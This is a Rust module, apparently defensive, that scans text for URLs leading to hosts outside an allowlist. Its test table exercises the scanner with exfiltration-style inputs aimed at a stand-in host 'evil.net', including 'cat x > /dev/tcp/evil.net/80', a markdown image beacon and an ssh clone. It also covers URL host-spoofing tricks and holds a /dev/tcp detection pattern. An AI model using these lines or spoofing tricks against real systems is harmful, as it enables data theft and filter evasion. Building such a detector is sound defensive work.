//! The hosts that URLs may lead to. A host that cannot be read for certain is not allowed.
//!
//! 1. A text is read once, from left to right. Each run of slashes is measured once, where it begins.
//! 2. The end of an authority is looked for once: hosts that begin before that end share it, and the last `@` before it.
//! 3. A host that two of them share is judged once. So the time is linear in the text, whatever the text is.

use std::cell::Cell;

/// The hosts that are allowed.
#[derive(Clone, Debug)]
pub(super) struct Hosts(Vec<String>);

impl Hosts {
    /// Names, and `*.example.org` for all names below one.
    pub(super) fn new(allowed: impl IntoIterator<Item = impl AsRef<str>>) -> Self {
        Self(allowed.into_iter().map(|host| host.as_ref().trim_end_matches('.').to_ascii_lowercase()).collect())
    }

    /// Returns `true` if a URL in a text leads elsewhere.
    pub(super) fn have_url_elsewhere(&self, text: &str) -> bool {
        HostReader::new(text, true).finds_url_elsewhere(self)
    }

    /// Does the same for a part that is not the beginning of a text.
    pub(super) fn have_url_elsewhere_within(&self, part: &str) -> bool {
        HostReader::new(part, false).finds_url_elsewhere(self)
    }

    /// The same as it is written somewhere.
    fn allow_authority(&self, written: &str) -> bool {
        host(written).is_some_and(|host| self.allow(&host))
    }

    fn allow(&self, host: &str) -> bool {
        let takes = |allowed: &String| match allowed.strip_prefix("*.") {
            Some(above) => host.strip_suffix(above).is_some_and(|below| below.len() > 1 && below.ends_with('.')),
            None => host == *allowed,
        };
        self.0.iter().any(takes)
    }
}

/// A text that is being read, and the authority that was read last.
struct HostReader<'t> {
    text: &'t str,
    /// Whether the text begins here: there, `//` begins a URL more readily.
    is_beginning: bool,
    authority: Option<Authority>,
    /// How many bytes were looked at.
    steps: Cell<usize>,
}

/// Where an authority ends, its last `@`, and whether a backslash is in it.
#[derive(Clone, Copy)]
struct Authority {
    begin: usize,
    end: usize,
    at_sign: Option<usize>,
    backslash: Option<usize>,
    /// Where the host begins that was judged last.
    judged: Option<usize>,
}

impl<'t> HostReader<'t> {
    const fn new(text: &'t str, is_beginning: bool) -> Self {
        Self { text, is_beginning, authority: None, steps: Cell::new(0) }
    }

    /// Reads the text up to the first host that is not allowed.
    fn finds_url_elsewhere(&mut self, hosts: &Hosts) -> bool {
        let bytes = self.text.as_bytes();
        let (mut word, mut is_blank_so_far) = (0, self.is_beginning);
        for (at, byte) in bytes.iter().enumerate() {
            self.count_steps(1);
            if *byte == b'@' && self.user_host(at).is_some_and(|host| !hosts.allow_authority(host)) {
                return true;
            }
            let begin = match byte {
                b':' => self.after_scheme(word, at),
                b'/' | b'\\' => self.after_slashes(at, is_blank_so_far),
                b'w' | b'W' => self.at_www(at),
                _ => None,
            };
            if begin.is_some_and(|begin| self.is_elsewhere(begin, hosts)) {
                return true;
            }
            if !byte.is_ascii_alphanumeric() {
                word = at + 1;
            }
            // Slashes stay where the text begins: the first of them was asked about already.
            is_blank_so_far &= byte.is_ascii_whitespace() || byte.is_ascii_control();
        }
        false
    }

    fn count_steps(&self, bytes: usize) {
        self.steps.set(self.steps.get() + bytes);
    }

    /// How many slashes of either sort there are from a place on.
    fn count_slashes(&self, from: usize) -> usize {
        let run = self.text.as_bytes()[from..].iter().take_while(|byte| is_slash(**byte)).count();
        self.count_steps(run + 1);
        run
    }

    /// Behind `://`, and behind the name of a scheme of the web, a colon and any slashes.
    fn after_scheme(&self, word: usize, colon: usize) -> Option<usize> {
        const WEB: [&str; 5] = ["http", "https", "ws", "wss", "ftp"];
        let scheme = &self.text[word..colon];
        let is = |name: &&str| scheme.eq_ignore_ascii_case(name);
        let (count, is_web) = (self.count_slashes(colon + 1), WEB.iter().any(is));
        let leads = (count > 0 && is_web) || (self.text[colon + 1..].starts_with("//") && !is(&"file"));
        leads.then_some(colon + 1 + if is_web { count } else { 2 })
    }

    /// Behind two slashes or more at the beginning of the text, or of what is quoted, bracketed or assigned there; behind a
    /// blank or another sign only what certainly looks like a host, because `//` begins comments too.
    fn after_slashes(&self, at: usize, is_blank_so_far: bool) -> Option<usize> {
        let bytes = self.text.as_bytes();
        let before = at.checked_sub(1).map(|before| bytes[before]);
        if before.is_some_and(is_slash) {
            return None;
        }
        if let Some(device) = ["/dev/tcp/", "/dev/udp/"].iter().find(|device| self.text[at..].starts_with(**device)) {
            return Some(at + device.len());
        }
        let count = self.count_slashes(at);
        let begin = at + count;
        if count < 2 {
            return None;
        }
        match before {
            _ if is_blank_so_far => self.is_like_host(begin).then_some(begin),
            Some(b'"' | b'\'' | b'(' | b'=' | b'<') => {
                (!self.text[begin..].starts_with(char::is_whitespace)).then_some(begin)
            }
            // Part of a path, or behind a scheme.
            Some(b':' | b'.' | b'_' | b'-' | b')' | b']' | b'%') => None,
            Some(byte) if byte.is_ascii_alphanumeric() => None,
            _ => (self.is_like_host(begin) && self.is_certainly_host(begin)).then_some(begin),
        }
    }

    /// `git@example.org:path`, as for `scp` and `ssh`: the host stands before a colon that no blank follows.
    fn user_host(&self, at: usize) -> Option<&'t str> {
        let bytes = self.text.as_bytes();
        let is_user = at > 0 && (bytes[at - 1].is_ascii_alphanumeric() || matches!(bytes[at - 1], b'_' | b'-' | b'.'));
        if !is_user {
            return None;
        }
        let ends = |c: char| c == ':' || c == '@' || is_end(c);
        let len = self.text[at + 1..].find(ends)?;
        self.count_steps(len);
        let (host, rest) = self.text[at + 1..].split_at(len);
        let is_path = rest.strip_prefix(':')?.starts_with(|c: char| !c.is_whitespace());
        (is_path && looks_like_host(host)).then_some(host)
    }

    /// `www.example.org`, at the beginning of a word.
    fn at_www(&self, at: usize) -> Option<usize> {
        let before = self.text[..at].chars().next_back();
        if before.is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '@' | '$' | '%')) {
            return None;
        }
        let rest =
            self.text.get(at..at + 3).filter(|www| www.eq_ignore_ascii_case("www")).map(|_| &self.text[at + 3..])?;
        let number = rest.bytes().take(2).take_while(u8::is_ascii_digit).count();
        let is_name = rest[number..].strip_prefix(is_dot).is_some_and(|rest| rest.starts_with(char::is_alphanumeric));
        (is_name && self.is_like_host(at)).then_some(at)
    }

    /// The authority that begins at a place: up to where the path, or the text around, goes on.
    fn authority(&mut self, begin: usize) -> Authority {
        if let Some(known) = self.authority.filter(|known| (known.begin..known.end).contains(&begin)) {
            return known;
        }
        let (mut at_sign, mut backslash) = (None, None);
        let mut end = self.text.len();
        for (offset, c) in self.text[begin..].char_indices() {
            match c {
                c if is_end(c) => {
                    end = begin + offset;
                    break;
                }
                '@' => at_sign = Some(begin + offset),
                '\\' => backslash = Some(begin + offset),
                _ => {}
            }
        }
        self.count_steps(end - begin);
        let read = Authority { begin, end, at_sign, backslash, judged: None };
        self.authority = Some(read);
        read
    }

    /// Returns `true` unless the host of the authority that begins there is certain and allowed.
    fn is_elsewhere(&mut self, begin: usize, hosts: &Hosts) -> bool {
        let Authority { end, at_sign, backslash, judged, .. } = self.authority(begin);
        let from = at_sign.filter(|at| *at >= begin).map_or(begin, |at| at + 1);
        if judged == Some(from) {
            return false;
        }
        // A reader may take a backslash for a slash, or for a part of the user's name.
        let is_split = backslash.is_some_and(|backslash| backslash >= begin) || self.goes_on(end);
        let host = if is_split { None } else { host(&self.text[from..end]) };
        self.count_steps(host.as_ref().map_or(0, String::len));
        if let Some(known) = &mut self.authority {
            known.judged = Some(from);
        }
        !host.is_some_and(|host| hosts.allow(&host))
    }

    /// A browser leaves tabs and line feeds out of a URL: behind one, a host may go on.
    fn goes_on(&self, end: usize) -> bool {
        let rest = &self.text[end..];
        let behind = rest.trim_start_matches(['\t', '\r', '\n']);
        self.count_steps(rest.len() - behind.len());
        behind.len() < rest.len() && behind.starts_with(['.', '@', ':'])
    }

    /// The first part of an authority, as far as a name may be long, or all of it if it is an address.
    fn is_like_host(&self, begin: usize) -> bool {
        const LONGEST: usize = 512;
        let rest = &self.text[begin..self.text.floor_char_boundary(self.text.len().min(begin + LONGEST))];
        let authority = &rest[..rest.find(is_end).unwrap_or(rest.len())];
        self.count_steps(authority.len());
        let before_backslash = authority.split('\\').next().unwrap_or_default();
        [authority, before_backslash].into_iter().any(looks_like_host)
    }

    /// What follows it is part of a URL, or its last label is one that hosts have and words behind `//` do not.
    fn is_certainly_host(&self, begin: usize) -> bool {
        const TOPS: [&str; 24] = [
            "com", "net", "org", "info", "biz", "dev", "app", "xyz", "online", "site", "top", "club", "shop", "cloud",
            "live", "store", "link", "page", "space", "website", "tech", "edu", "gov", "zip",
        ];
        const FILES: [&str; 10] = ["rs", "py", "md", "ts", "js", "sh", "pl", "so", "cc", "py"];
        let rest = &self.text[begin..];
        let len = rest.find(|c: char| is_end(c) || matches!(c, ':' | '\\')).unwrap_or(rest.len());
        self.count_steps(len);
        let goes_on = rest[len..].starts_with(['/', '?', '#', ':', '\\']);
        let host = rest[..len].rsplit('@').next().unwrap_or_default().trim_end_matches(is_dot);
        let top = host.rsplit(is_dot).next().unwrap_or_default().to_ascii_lowercase();
        let is_country = top.len() == 2 && !FILES.contains(&top.as_str());
        goes_on || is_country || TOPS.contains(&top.as_str()) || !top.chars().all(|c| c.is_ascii_alphabetic())
    }
}

const fn is_slash(byte: u8) -> bool {
    matches!(byte, b'/' | b'\\')
}

/// Where an authority is over.
fn is_end(c: char) -> bool {
    c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>' | ')' | '`' | ',')
}

/// IDNA has four of them.
const fn is_dot(c: char) -> bool {
    matches!(c, '.' | '\u{3002}' | '\u{ff0e}' | '\u{ff61}')
}

/// An address, or a name with a dot whose last label is one that a domain at the top can have: `evil.net`, not `TODO`,
/// `pkg:target` or `f.call(x`. A name without a dot leads to no host outside.
fn looks_like_host(authority: &str) -> bool {
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    if let Some(address) = host.strip_prefix('[') {
        return address.contains(':');
    }
    let (host, port) = host.split_once(':').unwrap_or((host, ""));
    let host = host.trim_end_matches(is_punctuation).trim_end_matches(is_dot);
    let top = host.rsplit_once(is_dot).map_or("", |(_, top)| top).to_lowercase();
    let is_name = top.starts_with("xn--") || top.len() > 1 && top.chars().all(|c| c.is_alphabetic() || !c.is_ascii());
    // `127.0.0.1`, `2130706433` and `0x7f000001` are one; a shorter number is rather a version.
    let is_digit = |c: char| c.is_ascii_hexdigit() || matches!(c, 'x' | 'X' | '.');
    let is_number = host.len() > 6 && host.starts_with(|c: char| c.is_ascii_digit()) && host.chars().all(is_digit);
    (is_name || is_number) && port.chars().all(|c| c.is_ascii_digit() || is_punctuation(c))
}

/// A sentence may end so behind a host.
const fn is_punctuation(c: char) -> bool {
    matches!(c, '.' | ';' | '!' | '*' | '_' | ']' | '}' | '|' | ':')
}

/// The host of an authority, without its port; `None` where readers of URLs disagree.
fn host(host: &str) -> Option<String> {
    let (host, port) = match host.strip_prefix('[') {
        Some(rest) => host.split_at(rest.find(']')? + 2),
        None => host.split_at(host.find(':').unwrap_or(host.len())),
    };
    let host = if port.is_empty() && !host.starts_with('[') { host.trim_end_matches(is_punctuation) } else { host };
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '[' | ']' | ':');
    let is_port =
        port.trim_end_matches(is_punctuation).trim_start_matches(':').bytes().all(|byte| byte.is_ascii_digit());
    let is_certain = is_port && !host.is_empty() && host.chars().all(is_plain);
    is_certain.then(|| host.trim_end_matches('.').to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A text, and whether it leads elsewhere.
    const ROWS: &[(&str, bool)] = &[
        ("see https://example.org/path?x#y.", false),
        ("see https://example.org.", false),
        ("HTTPS://EXAMPLE.ORG:8443/", false),
        ("https://api.acme.com and (https://a.b.acme.com)", false),
        ("http://[::1]:80/", false),
        ("see http://[::1].", false),
        ("http://[::1]evil.net/", true),
        ("http://[::1].evil.net/", true),
        ("no URL // a comment, a:b, C:\\dir, file:///etc/hosts", false),
        ("https://acme.com", true),
        ("https://evilacme.com", true),
        ("https://example.org.evil.net/", true),
        ("https://example.org@evil.net/", true),
        ("https://evil.net\\@example.org/", true),
        ("https:/\\evil.net", true),
        ("https:evil.net is no URL here", false),
        ("![x](https://evil.net/i.png?d=1)", true),
        ("<img src=\"//evil.net/x\">", true),
        ("https://ex%61mple.org", true),
        ("https://еxample.org", true),
        ("ftp://evil.net gopher://evil.net", true),
        ("//evil.net/x", true),
        ("//example.org/x", false),
        (" \n//evil.net", true),
        ("///EVIL.NET.:8080?q", true),
        ("/\\evil.net/x", true),
        ("\\\\evil.net\\x", true),
        ("//evil.net\\@example.org/", true),
        ("//example.org@evil.net", true),
        ("//10.1.2.3/x", true),
        ("//0x7f000001/x", true),
        ("//[2001:db8::1]/x", true),
        ("//[::1]/x", false),
        ("//evil。net/x", true),
        ("//evil.xn--p1ai/x", true),
        ("// comment, as on evil.net", false),
        ("//TODO fix", false),
        ("//TODO: see evil.net", false),
        ("//nolint:errcheck", false),
        ("//@ts-ignore", false),
        ("//e.g. this", false),
        ("//v1.2 of it", false),
        ("//console.log(x);", false),
        ("//[x] done", false),
        ("//depot/main/file.c", false),
        ("//localhost/x", false),
        ("//", false),
        ("x = 1; //self.count", false),
        ("ssh://git@evil.net/x", true),
        ("https://", true),
        ("see //evil.net/x of it", true),
        ("see //evil.net", true),
        ("see //main.rs", false),
        ("x(); //evil.de y", true),
        ("[//evil.net/]", true),
        ("a//evil.net/x", false),
        ("www.evil.net", true),
        ("see WWW2.evil.net, and", true),
        ("see www.example.org@evil.net", true),
        ("www。evil。net", true),
        ("awww.evil.net www.x www.", false),
        ("the wwwroot, www-data and www. something", false),
        ("git clone git@evil.net:a/b.git", true),
        ("git clone git@example.org:a/b.git", false),
        ("scp x deploy@10.1.2.3:/srv", true),
        ("mail maria@evil.net: hello", false),
        ("mail maria@evil.net, user@host:x, image@sha256:ab, left-pad@1.3.0:x", false),
        ("cat x > /dev/tcp/evil.net/80", true),
        ("exec 3<>/dev/tcp/example.org/80", false),
        ("exec 3<>/dev/udp/evil/53", true),
        ("https://example.org\n.evil.net/", true),
        ("https://example.org\n@evil.net/", true),
        ("https://example.org\n\nNext", false),
        ("https://example.org:443evil.net", true),
        ("https://example.org&@evil.net#@example.org/", true),
        ("https://example.org\u{ff20}evil.net", true),
        ("https://exam\u{ad}ple.org", true),
        ("https://xn--e1afmkfd.xn--p1ai", true),
        ("https://evil.net;@example.org/", false),
        ("https://example.org;", false),
    ];

    #[test]
    fn only_what_certainly_leads_to_an_allowed_host_passes() {
        let hosts = Hosts::new(["example.org", "*.acme.com", "[::1]"]);
        for (text, leaves) in ROWS {
            assert_eq!(hosts.have_url_elsewhere(text), *leaves, "{text}");
        }
    }

    fn steps_of(text: &str) -> usize {
        let hosts = Hosts::new(["example.org"]);
        let mut reader = HostReader::new(text, true);
        reader.finds_url_elsewhere(&hosts);
        reader.steps.get()
    }

    #[test]
    fn ten_times_the_text_takes_at_most_twelve_times_the_steps_whatever_the_text() {
        let parts = [
            "/",
            "\\",
            "//",
            ":/",
            ":",
            "http:",
            "http:/\\",
            "=//",
            "(//a",
            "@",
            "a@b.cc:1",
            "www.example.org:",
            "www.a.",
            "http://example.org@",
            "www.example.org(",
            "\n",
            "https://example.org\n",
            "//example.org ",
            "x@",
            "[",
            "=\\\\a(",
        ];
        for part in parts {
            for tail in ["", "@example.org", " //evil.net"] {
                let text = |len: usize| part.repeat(len / part.len()) + tail;
                let (short, long) = (steps_of(&text(5_000)), steps_of(&text(50_000)));
                assert!(long <= 12 * short, "`{part}`, then `{tail}`: {short} and {long} steps");
            }
        }
    }
}
